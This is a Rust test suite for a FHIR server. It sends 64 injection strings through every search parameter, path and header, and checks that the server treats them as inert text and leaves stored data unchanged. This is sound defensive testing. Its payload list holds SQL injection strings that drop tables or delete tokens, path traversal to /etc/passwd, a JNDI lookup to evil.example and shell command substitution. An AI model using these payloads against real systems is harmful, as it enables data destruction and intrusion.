//! Texts that would be something else if they were ever part of a statement: each is put into
//! every kind of search parameter, and is found only where it is stored.

use serde_json::{Value, json};

use crate::harness::{Client, Server};

/// Texts that mean something to SQL, SQLite, LIKE, FTS5, jsonpath, FHIR or a shell.
const PAYLOADS: [&str; 64] = [
    "'",
    "''",
    "\"",
    "`",
    "\\",
    "\\'",
    "%",
    "_",
    "%%",
    "a%",
    "*",
    "a*",
    "?",
    ";",
    "--",
    "/*",
    "#",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "') OR ('1'='1",
    "1 OR 1=1",
    "1; DROP TABLE resource",
    "'; DROP TABLE resource; --",
    "'; DELETE FROM token; --",
    "'; UPDATE resource SET deleted=1; --",
    "' UNION SELECT NULL --",
    "' UNION ALL SELECT name FROM sqlite_master --",
    "' AND sqlite_version() --",
    "' AND randomblob(100000000) --",
    "' || (SELECT hex(body) FROM version) || '",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "'; ATTACH DATABASE '/tmp/vigie-canary' AS x; --",
    "'; SELECT load_extension('/tmp/x'); --",
    "'; PRAGMA writable_schema=1; --",
    "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(1000000)))) --",
    "1' AND SLEEP(5) --",
    "'; WAITFOR DELAY '0:0:5' --",
    "pg_sleep(5)",
    "a' ESCAPE '\\",
    "a::text",
    "a::int",
    "CAST(a AS int)",
    "$1",
    "?1",
    ":name",
    "@x",
    "$.name[*]",
    "$..*",
    "@.a == 1",
    "NEAR(a b)",
    "a AND b",
    "a OR b",
    "a NOT b",
    "^a",
    "{a b}: c",
    "name: a",
    "ORDER BY 1",
    "name; DROP TABLE resource",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "$(id)",
    "\u{0}",
];

/// Parameters of every kind, by type; the payload takes the place of `{}`.
const PARAMETERS: [(&str, &str); 58] = [
    ("Patient", "name={}"),
    ("Patient", "name:exact={}"),
    ("Patient", "name:contains={}"),
    ("Patient", "address-city={}"),
    ("Patient", "identifier={}"),
    ("Patient", "identifier={}|a"),
    ("Patient", "identifier=urn:mrn|{}"),
    ("Patient", "identifier:of-type=urn:types|MR|{}"),
    ("Patient", "gender={}"),
    ("Patient", "gender:not={}"),
    ("Patient", "gender:text={}"),
    ("Patient", "gender:missing={}"),
    ("Patient", "birthdate={}"),
    ("Patient", "birthdate=ge{}"),
    ("Patient", "general-practitioner={}"),
    ("Patient", "general-practitioner=Practitioner/{}"),
    ("Patient", "general-practitioner:Practitioner={}"),
    ("Patient", "general-practitioner:identifier={}"),
    ("Patient", "organization.name={}"),
    ("Patient", "organization:Organization.name={}"),
    ("Patient", "_has:Observation:subject:code={}"),
    ("Patient", "_has:Observation:{}:code=dose"),
    ("Patient", "_id={}"),
    ("Patient", "_lastUpdated={}"),
    ("Patient", "_text={}"),
    ("Patient", "_content={}"),
    ("Patient", "_filter=name eq \"{}\""),
    ("Patient", "_filter={}"),
    ("Patient", "_list={}"),
    ("Patient", "_profile={}"),
    ("Patient", "_tag={}"),
    ("Patient", "_tag:below={}"),
    ("Patient", "_security={}"),
    ("Patient", "_source={}"),
    ("Patient", "_sort={}"),
    ("Patient", "_sort=-{}"),
    ("Patient", "_count={}"),
    ("Patient", "_elements={}"),
    ("Patient", "_summary={}"),
    ("Patient", "_total={}"),
    ("Patient", "_include={}"),
    ("Patient", "_include=Patient:{}"),
    ("Patient", "_revinclude=Observation:{}"),
    ("Patient", "_cursor={}"),
    ("Patient", "{}=1"),
    ("Patient", "name:{}=a"),
    ("Observation", "subject={}"),
    ("Observation", "subject=Patient/{}"),
    ("Observation", "subject.name={}"),
    ("Observation", "code-value-quantity={}"),
    ("Observation", "code-value-quantity=dose${}"),
    ("Observation", "value-quantity={}"),
    ("Observation", "value-quantity=5|urn:x|{}"),
    ("Questionnaire", "url={}"),
    ("Questionnaire", "url:below={}"),
    ("Questionnaire", "version={}"),
    ("RiskAssessment", "probability={}"),
    ("Location", "near={}"),
];

/// A text that is nowhere and means nothing.
const PLAIN: &str = "zzqqzz";

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// The status, and how many are found where it is a success.
fn asked(client: &mut Client, (kind, parameter): (&str, &str), value: &str) -> (u16, Value) {
    let (before, after) = parameter.split_once("{}").expect("a place for it");
    let query = match before.split_once('=') {
        // White space and quotes of the frame are sent encoded too.
        Some((name, start)) => {
            let text = format!("{start}{value}{after}");
            format!("{name}={}", encoded(&text))
        }
        None => format!("{before}{}{after}", encoded(value)),
    };
    let reply = client.get(&format!("{kind}?{query}"));
    let text = reply.text();
    assert!(reply.status < 500, "{kind}?{query}: {text}");
    for leak in [
        "sqlite",
        "syntax error",
        "no such table",
        "no such column",
        "SELECT ",
        "rusqlite",
        "sqlx",
    ] {
        // What was asked may be said again: it is the asker's own.
        let said = text.replace(value, "");
        assert!(
            value.contains(leak) || !said.contains(leak),
            "{kind}?{query}: {text}"
        );
    }
    let found = if reply.status == 200 {
        let bundle = reply.json();
        let entries = bundle["entry"].as_array().cloned().unwrap_or_default();
        let matches = entries
            .iter()
            .filter(|entry| entry["search"]["mode"] == "match");
        json!(matches.count())
    } else {
        Value::Null
    };
    (reply.status, found)
}

fn ward() -> (Server, Client) {
    let server = Server::start();
    let mut client = server.client();
    let patient = |id: &str, family: &str, gender: &str| {
        json!({"resourceType": "Patient", "id": id, "gender": gender, "birthDate": "1950-02-03",
            "name": [{"family": family}], "address": [{"city": "Lyon"}],
            "identifier": [{"system": "urn:mrn", "value": id,
                "type": {"coding": [{"system": "urn:types", "code": "MR"}]}}]})
    };
    for (id, family, gender) in [("p1", "Ancelin", "female"), ("p2", "Bonnet", "male")] {
        client
            .put(&format!("Patient/{id}"), &patient(id, family, gender))
            .expect(201);
    }
    let observation = json!({"resourceType": "Observation", "id": "o1", "status": "final",
        "code": {"coding": [{"system": "urn:c", "code": "dose"}]},
        "subject": {"reference": "Patient/p1"}, "valueQuantity": {"value": 5.4, "unit": "mg"}});
    client.put("Observation/o1", &observation).expect(201);
    (server, client)
}

#[test]
fn a_payload_in_any_parameter_is_a_text_like_any_other() {
    let (_server, mut client) = ward();
    let mut asked_so_far = 0;
    for parameter in PARAMETERS {
        let plain = asked(&mut client, parameter, PLAIN);
        for payload in PAYLOADS {
            let (status, found) = asked(&mut client, parameter, payload);
            asked_so_far += 1;
            // Refused as what it is not, or as fruitless as any text that is stored nowhere.
            let is_like_plain = status >= 400 || found == plain.1 || plain.0 >= 400;
            assert!(
                is_like_plain,
                "{parameter:?} {payload}: {found}, and {plain:?} for a plain text"
            );
        }
    }
    assert!(asked_so_far >= 3_500);
    // All is as it was.
    let total =
        |client: &mut Client, path: &str| client.get(path).expect(200).json()["total"].clone();
    assert_eq!(total(&mut client, "Patient?_summary=count"), 2);
    assert_eq!(
        total(&mut client, "Observation?code=dose&_summary=count"),
        1
    );
    assert_eq!(client.get("Patient/p1").json()["meta"]["versionId"], "1");
    assert!(!std::path::Path::new("/tmp/vigie-canary").exists());
}

#[test]
fn a_payload_that_is_stored_is_found_by_itself_alone() {
    let (_server, mut client) = ward();
    // NUL is refused in a body, as it should be.
    for (n, payload) in PAYLOADS.iter().filter(|text| **text != "\0").enumerate() {
        let city = format!("{payload} {n}");
        let id = format!("stored-{n}");
        let patient = json!({"resourceType": "Patient", "id": id, "address": [{"city": city}]});
        client.put(&format!("Patient/{id}"), &patient).expect(201);
        let escaped: String = city
            .chars()
            .flat_map(|c| {
                matches!(c, '\\' | ',' | '$' | '|')
                    .then_some('\\')
                    .into_iter()
                    .chain([c])
            })
            .collect();
        let found = client.get(&format!(
            "Patient?_total=accurate&address-city:exact={}",
            encoded(&escaped)
        ));
        let found = found.expect(200).json();
        assert_eq!(found["total"], 1, "{payload}: {found}");
        assert_eq!(found["entry"][0]["resource"]["id"], id);
    }
}

#[test]
fn a_payload_in_a_path_or_a_header_is_one_too() {
    let (server, mut client) = ward();
    for payload in PAYLOADS {
        let id = encoded(payload);
        for path in [
            format!("Patient/{id}"),
            format!("Patient/p1/_history/{id}"),
            id.to_string(),
            format!("{id}/p1"),
            format!("_async/{id}"),
            format!("_async/{id}/1.ndjson"),
            format!("Patient/{id}/$everything"),
        ] {
            let reply = client.get(&path);
            assert!(
                (400..500).contains(&reply.status) || reply.status == 501,
                "{path}: {}",
                reply.status
            );
            assert!(!reply.text().contains("Ancelin"), "{path}");
        }
        let is_visible = payload.bytes().all(|b| (32..127).contains(&b));
        let value = if is_visible { payload } else { continue };
        for name in [
            "if-match",
            "if-none-match",
            "if-none-exist",
            "prefer",
            "x-request-id",
            "accept",
        ] {
            // A refusal that needs no body may end the connection.
            let mut client = server.client();
            let json = ("content-type", "application/fhir+json");
            let body = br#"{"resourceType":"Basic","code":{"text":"x"}}"#;
            let reply = client.send("POST", "Basic", &[json, (name, value)], body);
            let reply = reply.expect("a reply");
            assert!(reply.status < 500, "{name}: {value}: {}", reply.text());
        }
    }
}
